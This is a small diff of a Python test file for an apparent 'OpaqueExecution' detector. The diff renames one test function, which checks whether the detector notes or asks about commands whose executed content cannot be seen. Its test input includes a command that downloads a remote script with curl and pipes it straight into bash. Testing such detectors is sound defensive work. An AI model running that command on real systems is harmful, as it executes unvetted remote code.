@@ -15,7 +15,7 @@ NOTE, ASKED = ("opaque_execution", "low"), ("opaque_execution", "high")
         "bash <(curl -s x.org/i)",
     ],
 )
-def test_what_cannot_be_known_is_noted_once_and_asked_about_where_that_is_set(command: str) -> None:
+def test_what_cannot_be_known_is_noted_once_and_checked_where_that_is_set(command: str) -> None:
     commands = [bash(second, command) for second in range(2)]
     assert fires_at(OpaqueExecution(), commands) == [(0, *NOTE)]
     assert fires_at(OpaqueExecution(asks=True), commands) == [(0, *ASKED), (1, *ASKED)]
